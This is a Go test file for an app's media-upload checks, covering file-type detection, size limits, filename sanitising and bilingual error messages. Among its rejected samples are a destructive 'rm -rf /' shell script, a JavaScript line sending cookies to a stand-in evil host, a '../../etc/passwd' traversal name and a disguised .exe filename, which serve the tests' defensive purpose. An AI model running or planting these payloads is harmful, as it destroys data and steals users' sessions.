package materials

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/socialinzen/socialinzen/internal/apperr"
	"github.com/socialinzen/socialinzen/internal/i18n"
)

func TestDetect(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		data []byte
		want *format
	}{
		{"png", pngBytes(t), fmtPNG},
		{"jpeg", jpegBytes(t), fmtJPEG},
		{"gif", gifBytes(t), fmtGIF},
		{"bmp", bmpBytes(t), fmtBMP},
		{"mp3", mp3Bytes(t), fmtMP3},
		{"wav", wavBytes(t), fmtWAV},
		{"amr", amrBytes(t), fmtAMR},
		{"wma", wmaBytes(t), fmtWMA},
		{"mp4", mp4Bytes(t), fmtMP4},
		{"wmv is not wma", wmvBytes(t), nil},
		{"html", []byte(htmlSample), nil},
		{"svg", []byte(svgSample), nil},
		{"script", []byte("#!/bin/sh\nrm -rf /\n"), nil},
		{"javascript", []byte("function f(){ document.location = 'https://evil.example/' + document.cookie }"), nil},
		{"zeros", make([]byte, 100), nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, detected := detect(tc.data)
			require.Equal(t, tc.want, got, "detected %s", detected)
			if tc.want == nil {
				require.NotEmpty(t, detected)
			}
		})
	}
}

func TestCheck(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		up   Upload
		kind apperr.Kind // 0 (Internal) means no error
		msg  string      // part of the message
	}{
		{"image png", Upload{Kind: Image, Data: pngBytes(t)}, 0, ""},
		{"image jpeg", Upload{Kind: Image, Data: jpegBytes(t)}, 0, ""},
		{"image gif", Upload{Kind: Image, Data: gifBytes(t)}, 0, ""},
		{"image bmp", Upload{Kind: Image, Data: bmpBytes(t)}, 0, ""},
		{"image at 10 MB", Upload{Kind: Image, Data: padTo(pngBytes(t), 10<<20)}, 0, ""},
		{"image over 10 MB", Upload{Kind: Image, Data: padTo(pngBytes(t), 10<<20+1)}, apperr.TooLarge, "at most 10 MB"},
		{"image mp3", Upload{Kind: Image, Data: mp3Bytes(t)}, apperr.UnsupportedType, "audio/mpeg"},
		{"image html", Upload{Kind: Image, Data: []byte(htmlSample)}, apperr.UnsupportedType, "text/html"},
		{"image svg", Upload{Kind: Image, Data: []byte(svgSample)}, apperr.UnsupportedType, "image/svg+xml"},
		{"voice mp3", Upload{Kind: Voice, Data: mp3Bytes(t)}, 0, ""},
		{"voice wav", Upload{Kind: Voice, Data: wavBytes(t)}, 0, ""},
		{"voice amr", Upload{Kind: Voice, Data: amrBytes(t)}, 0, ""},
		{"voice wma", Upload{Kind: Voice, Data: wmaBytes(t)}, 0, ""},
		{"voice wmv", Upload{Kind: Voice, Data: wmvBytes(t)}, apperr.UnsupportedType, "video/x-ms-wmv"},
		{"voice png", Upload{Kind: Voice, Data: pngBytes(t), Filename: "song.mp3"}, apperr.UnsupportedType, "image/png; a voice must be mp3, wma, wav or amr"},
		{"voice at 2 MB", Upload{Kind: Voice, Data: padTo(mp3Bytes(t), 2<<20)}, 0, ""},
		{"voice over 2 MB", Upload{Kind: Voice, Data: padTo(mp3Bytes(t), 2<<20+1)}, apperr.TooLarge, "a voice may be at most 2 MB"},
		{"thumb jpeg", Upload{Kind: Thumb, Data: jpegBytes(t)}, 0, ""},
		{"thumb at 64 KB", Upload{Kind: Thumb, Data: padTo(jpegBytes(t), 64<<10)}, 0, ""},
		{"thumb over 64 KB", Upload{Kind: Thumb, Data: padTo(jpegBytes(t), 64<<10+1)}, apperr.TooLarge, "a thumb may be at most 64 KB"},
		{"thumb png", Upload{Kind: Thumb, Data: pngBytes(t)}, apperr.UnsupportedType, "a thumb must be jpg"},
		{"video", Upload{Kind: Video, Data: mp4Bytes(t), Title: "t"}, 0, ""},
		{"video at 10 MB", Upload{Kind: Video, Data: padTo(mp4Bytes(t), 10<<20), Title: "t"}, 0, ""},
		{"video over 10 MB", Upload{Kind: Video, Data: padTo(mp4Bytes(t), 10<<20+1), Title: "t"}, apperr.TooLarge, "a video may be at most 10 MB"},
		{"video without title", Upload{Kind: Video, Data: mp4Bytes(t)}, apperr.Invalid, "title: is required"},
		{"video title too long", Upload{Kind: Video, Data: mp4Bytes(t), Title: strings.Repeat("标", 65)}, apperr.Invalid, "title: must be at most 64"},
		{"video desc too long", Upload{Kind: Video, Data: mp4Bytes(t), Title: "t", Description: strings.Repeat("d", 513)}, apperr.Invalid, "desc"},
		{"video png", Upload{Kind: Video, Data: pngBytes(t), Title: "t"}, apperr.UnsupportedType, "a video must be mp4"},
		{"logo png", Upload{Kind: Logo, Data: pngBytes(t)}, 0, ""},
		{"logo jpeg", Upload{Kind: Logo, Data: jpegBytes(t)}, 0, ""},
		{"logo at 2 MB", Upload{Kind: Logo, Data: padTo(pngBytes(t), 2<<20)}, 0, ""},
		{"logo over 2 MB", Upload{Kind: Logo, Data: padTo(pngBytes(t), 2<<20+1)}, apperr.TooLarge, "a logo may be at most 2 MB"},
		{"logo gif", Upload{Kind: Logo, Data: gifBytes(t)}, apperr.UnsupportedType, "a logo must be png or jpg"},
		{"logo svg", Upload{Kind: Logo, Data: []byte(svgSample)}, apperr.UnsupportedType, "image/svg+xml"},
		{"empty", Upload{Kind: Image}, apperr.Invalid, "file: is empty"},
		{"unknown kind", Upload{Kind: "news", Data: pngBytes(t)}, apperr.Invalid, "type"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := tc.up.Check()
			if tc.kind == 0 {
				require.NoError(t, err)
				return
			}
			require.Error(t, err)
			require.Equal(t, tc.kind, apperr.KindOf(err), err.Error())
			require.Contains(t, err.Error(), tc.msg)
		})
	}
}

func TestParseKind(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]Kind{"image": Image, " Voice ": Voice, "vedio": Video, "VIDEO": Video, "thumb": Thumb} {
		k, err := ParseKind(in)
		require.NoError(t, err, in)
		require.Equal(t, want, k, in)
	}
	for _, in := range []string{"", "logo", "news", "file"} {
		_, err := ParseKind(in)
		require.Equal(t, apperr.Invalid, apperr.KindOf(err), in)
	}
}

func TestSanitizeFilename(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		"photo.png":                       "photo.png",
		"../../etc/passwd":                "passwd",
		`C:\Users\me\照片 1.jpg`:            "照片 1.jpg",
		"a\x00b\r\nc.png":                 "ab c.png",
		"evil\u202egnp.exe":               "evilgnp.exe",
		`"quoted" <name>.gif`:             "_quoted_ _name_.gif",
		"...hidden":                       "hidden",
		"":                                "file",
		"   ":                             "file",
		"a   b\t\tc.mp3":                  "a b c.mp3",
		strings.Repeat("x", 200) + ".mp4": strings.Repeat("x", 96) + ".mp4",
	}
	for in, want := range cases {
		require.Equal(t, want, sanitizeFilename(in), "%q", in)
	}
}

func TestNameFor(t *testing.T) {
	t.Parallel()
	require.Equal(t, "song.png", nameFor("song.mp3", fmtPNG))
	require.Equal(t, "photo.jpeg", nameFor("photo.jpeg", fmtJPEG))
	require.Equal(t, "photo.JPG", nameFor("photo.JPG", fmtJPEG))
	require.Equal(t, "noext.amr", nameFor("noext", fmtAMR))
	require.Equal(t, "file.mp4", nameFor("", fmtMP4))
}

func TestContentDisposition(t *testing.T) {
	t.Parallel()
	require.Equal(t, `inline; filename="a.png"; filename*=UTF-8''a.png`, contentDisposition("inline", "a.png"))
	require.Equal(t, `inline; filename="__ 1.jpg"; filename*=UTF-8''%E7%85%A7%E7%89%87%201.jpg`, contentDisposition("inline", "照片 1.jpg"))
	require.Equal(t, `inline; filename="a_b_c_.png"; filename*=UTF-8''a%22b%5Cc%25.png`, contentDisposition("inline", `a"b\c%.png`))
}

func TestHumanBytes(t *testing.T) {
	t.Parallel()
	require.Equal(t, "64 KB", humanBytes(64<<10))
	require.Equal(t, "10 MB", humanBytes(10<<20))
	require.Equal(t, "70.0 KB", humanBytes(70<<10 + 1)[:7])
	require.Equal(t, "512 bytes", humanBytes(512))
}

// TestKindTerms: the words of the upload errors' keys (a kind, its formats) exist in both languages, and
// in English say what the API's msg says.
func TestKindTerms(t *testing.T) {
	t.Parallel()
	c := i18n.Embedded()
	for k := range rules {
		require.Equal(t, k.article(), c.T(i18n.EN, "materials.kind.a."+string(k)), k)
		require.Equal(t, k.Allowed(), c.T(i18n.EN, "materials.formats."+string(k)), k)
		require.True(t, c.Has(i18n.ZH, "materials.kind.a."+string(k)), k)
		require.True(t, c.Has(i18n.ZH, "materials.formats."+string(k)), k)
	}
	u := &Upload{Kind: Thumb, Data: make([]byte, 65<<10)}
	_, err := u.Check()
	require.Equal(t, err.Error(), c.Error(i18n.EN, err))
	require.Equal(t, "文件太大：缩略图最大 64 KB，这个文件有 65 KB", c.Error(i18n.ZH, err))
	u = &Upload{Kind: Voice, Data: pngBytes(t)}
	_, err = u.Check()
	require.Equal(t, err.Error(), c.Error(i18n.EN, err))
	require.Equal(t, "文件类型不支持：这个文件是 image/png，语音只能是 mp3、wma、wav 或 amr", c.Error(i18n.ZH, err))
}
